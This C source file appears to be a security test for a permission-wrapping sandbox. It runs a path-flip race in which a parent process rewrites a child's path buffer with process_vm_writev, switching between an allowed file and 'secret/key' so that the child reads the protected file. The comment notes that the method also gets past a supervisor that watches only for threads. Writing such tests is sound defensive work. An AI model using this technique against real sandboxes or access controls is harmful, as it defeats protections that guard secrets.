/* read_race_vm_writev: the path-flip race from another process: a child
 * opens its path buffer in a loop while the parent rewrites that buffer in
 * the child's memory with process_vm_writev(2), between "free/a" and
 * "secret/key". Needs no thread in the victim, so it also defeats a
 * supervisor that only watches for threads. Runs until it wins, at most
 * PERMWRAP_RACE_SECONDS.
 * Judged by: the token on stdout. */
#include "common.h"
#include <signal.h>
#include <sys/uio.h>
#include <sys/wait.h>
static char buf[32] = "free/a";
int main(void)
{
	pid_t c = fork();
	if (c == 0) {
		long odd = 0;
		for (;;) {
			char got[256];
			int fd = open(buf, O_RDONLY);
			if (fd < 0)
				continue;
			ssize_t n = read(fd, got, sizeof got);
			close(fd);
			if (n > 0 && !(n == 8 && memcmp(got, "ALLOWED\n", 8) == 0)) {
				race_won();
				if (++odd <= 20)
					(void)!write(1, got, n);
			}
		}
	}
	static const char a[] = "free/a\0\0\0\0", s[] = "secret/key";
	long writes = 0, fails = 0;
	while (race_on()) {
		for (int i = 0; i < 2; i++) {
			struct iovec l = { (void *)(i ? a : s), 11 }, r = { buf, 11 };
			if (process_vm_writev(c, &l, 1, &r, 1, 0) < 0)
				fails++;
			else
				writes++;
		}
	}
	kill(c, SIGKILL);
	waitpid(c, NULL, 0);
	race_done();
	note("%ld process_vm_writev calls succeeded, %ld failed (last: %s)", writes, fails, strerror(errno));
	return 0;
}
